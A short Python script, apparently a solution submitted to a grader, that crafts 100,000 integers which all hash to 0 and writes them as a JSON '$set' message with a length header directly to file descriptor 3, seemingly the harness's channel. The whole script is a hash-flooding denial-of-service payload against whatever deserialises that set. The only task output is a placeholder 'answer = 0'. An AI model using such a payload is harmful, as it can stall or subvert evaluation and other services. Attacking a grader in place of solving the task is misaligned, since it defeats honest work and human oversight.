import json, os, struct

keys = [k * (2**61 - 1) for k in range(100_000)]  # the hash of each is 0
body = json.dumps([{"value": {"$set": keys}}, []], separators=(",", ":")).encode()
data = struct.pack(">II", len(body), 0) + body
while data:
    data = data[os.write(3, data) :]
answer = 0
